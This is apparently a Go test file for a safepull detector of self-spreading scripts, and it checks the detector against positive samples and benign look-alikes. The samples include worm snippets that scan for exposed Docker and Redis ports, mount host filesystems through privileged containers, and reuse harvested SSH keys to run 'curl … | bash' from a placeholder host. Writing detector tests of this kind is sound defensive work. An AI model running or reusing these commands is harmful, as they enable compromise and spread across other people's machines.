package propagation

import (
	"testing"

	"github.com/safepull/safepull/trust"
	"github.com/safepull/safepull/trust/indicator"
	"github.com/safepull/safepull/trust/indicator/indicatortest"
	"github.com/safepull/safepull/trust/indicator/internal/behaviour"
)

func rules(t testing.TB) behaviour.Rules {
	t.Helper()
	var r behaviour.Rules
	indicatortest.Decode(t, name, &r)
	return r
}

func samples() []indicatortest.Sample {
	script, config := trust.KindScript, trust.KindConfig
	return []indicatortest.Sample{
		{Name: "one-daemon", Path: "w.sh", Kind: script, Content: "IP=$(shuf -n 1 hosts)\ndocker -H $IP:2375 run -d --restart always x/nginx\n", Want: trust.Context, IfRun: trust.Weak},
		{Name: "docker-worm", Path: "w.sh", Kind: script, Content: "masscan $1 -p2375,2376 --rate=50000 -oL - > /tmp/ips\nfor ip in $(cat /tmp/ips); do\n docker -H tcp://$ip:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh -c 'curl -s http://203.0.113.9/a.sh | sh'\ndone\n", Want: trust.Strong},
		{Name: "ssh-worm", Path: "s.sh", Kind: script, Content: "HOSTS=$(cat ~/.ssh/known_hosts | grep -oE '([0-9]{1,3}\\.){3}[0-9]{1,3}' | sort -u)\nfor h in $HOSTS; do ssh -oStrictHostKeyChecking=no -i $k root@$h \"curl -fsSL http://203.0.113.9/i.sh | bash\" & done\n", Want: trust.Strong},
		{Name: "python-docker", Path: "w.py", Kind: script, Content: "os.system('masscan -p2375 --rate 1000 ' + net)\nos.system('docker -H ' + host + ' run -d -v /:/host alpine chroot /host')\n", Want: trust.Strong},
		{Name: "zgrab", Path: "w.sh", Kind: script, Content: "zgrab2 http --port=2375 -f ips.txt | jq -r .ip > open\nfor i in $(cat open); do docker -H $i:2375 run -v /:/host -d x/alpine; done\n", Want: trust.Strong},
		{Name: "interface", Path: "w.sh", Kind: script, Content: "pnscan -r \"Docker\" 10.0.0.0/8 2375 > o\nwhile read h; do curl -s -X POST http://$h:2375/containers/create -d @c.json; done < o\n", Want: trust.Strong},
		{Name: "python-keys", Path: "w.py", Kind: script, Content: "hosts = re.findall(r'\\d{1,3}', open('/root/.ssh/known_hosts').read())\nos.system('ssh -o StrictHostKeyChecking=no -i /root/.ssh/id_rsa root@' + '%s' % h + ' \"curl http://203.0.113.9/i | bash\"')\n", Want: trust.Strong},
		{Name: "keys-everywhere", Path: "s.sh", Kind: script, Content: "KEYS=$(find /root /home -name 'id_rsa')\nfor h in $L; do ssh -o StrictHostKeyChecking=no -i $k root@$h 'curl http://203.0.113.9/i | bash'; done\n", Want: trust.Strong},
		{Name: "redis", Path: "r.sh", Kind: script, Content: "masscan -p6379 --rate 10000 $net > l\nfor h in $(cat l); do redis-cli -h $h config set dir /var/spool/cron; done\n", Want: trust.Weak, IfRun: trust.Strong},
		{Name: "at-start", Path: "config:command", Kind: config, Content: "sh -c \"masscan $N -p2375 --rate 9000 -oL o; docker -H tcp://$IP:2375 run -v /:/mnt alpine\"", Want: trust.Strong},
	}
}

func twins() []indicatortest.Twin {
	script, text := trust.KindScript, trust.KindText
	return []indicatortest.Twin{
		{Name: "deploy", Path: "d.sh", Kind: script, Content: "ssh -o StrictHostKeyChecking=no -i id_rsa deploy@203.0.113.5 \"sudo systemctl restart app\"\nrsync -az -e \"ssh -o StrictHostKeyChecking=no\" ./dist/ deploy@203.0.113.5:/srv\n"},
		{Name: "log-in", Path: "k.sh", Kind: script, Content: "ssh-keyscan github.com >> ~/.ssh/known_hosts\necho \"$SSH_PUBLIC_KEY\" >> ~/.ssh/authorized_keys\nexec /usr/sbin/sshd -D\n"},
		{Name: "continuous-integration", Path: "ci.sh", Kind: script, Content: "export DOCKER_HOST=tcp://docker:2375\ndocker -H tcp://docker:2375 build -t app .\ndocker run --rm -v /var/run/docker.sock:/var/run/docker.sock app test\n"},
		{Name: "node-exporter", Path: "wt.sh", Kind: script, Content: "docker run -d --pid=host -v /:/host:ro,rslave quay.io/prometheus/node-exporter --path.rootfs=/host\n"},
		{Name: "port-scan", Path: "scan.sh", Kind: script, Content: "masscan -p80,443 10.0.0.0/8 --rate 1000 -oJ out.json\nnmap -sV -iL hosts.txt\n"},
		{Name: "ansible", Path: "hosts.yml", Kind: text, Content: "ansible_ssh_common_args: \"-o StrictHostKeyChecking=no\"\n"},
		{Name: "ssh-manual", Path: "usr/share/man/man1/ssh.1", Kind: text, Content: "cat ~/.ssh/known_hosts | grep host; find / -name id_rsa; docker -H tcp://$ip run"},
		{Name: "backup-keys", Path: "b.sh", Kind: script, Content: "tar czf keys.tgz ~/.ssh/id_rsa ~/.ssh/known_hosts\ncp authorized_keys /root/.ssh/\n"},
		{Name: "sort-known-hosts", Path: "k.sh", Kind: script, Content: "cat known_hosts | sort -u > ~/.ssh/known_hosts\nfor h in $(cat hosts.txt); do ssh -o StrictHostKeyChecking=no admin@$h \"apt-get update\"; done\n"},
		{Name: "cluster-loop", Path: "c.sh", Kind: script, Content: "for h in node1 node2; do ssh -o StrictHostKeyChecking=no root@$h \"uptime\"; done\n"},
	}
}

func TestIndicator(t *testing.T) {
	t.Parallel()
	ind, err := New(rules(t))
	if err != nil {
		t.Fatal(err)
	}
	indicatortest.Run(t, ind, samples(), twins())
}

func TestNewRefuses(t *testing.T) {
	t.Parallel()
	for name, change := range map[string]func(*behaviour.Rules){
		"nothing": func(r *behaviour.Rules) { *r = behaviour.Rules{} },
		"short":   func(r *behaviour.Rules) { r.Habits[0].Wake = []string{"abc"} },
		"pattern": func(r *behaviour.Rules) { r.Habits[0].Line = []string{"("} },
	} {
		r := rules(t)
		change(&r)
		if _, err := New(r); err == nil {
			t.Errorf("%s: accepted", name)
		}
	}
}

func FuzzHit(f *testing.F) {
	ind, err := New(rules(f))
	if err != nil {
		f.Fatal(err)
	}
	for _, s := range samples() {
		f.Add([]byte(s.Content))
	}
	f.Fuzz(func(_ *testing.T, in []byte) {
		indicatortest.Inspect(ind, indicator.File{Path: "x.sh", Kind: trust.KindScript}, in, indicatortest.Drive{})
	})
}
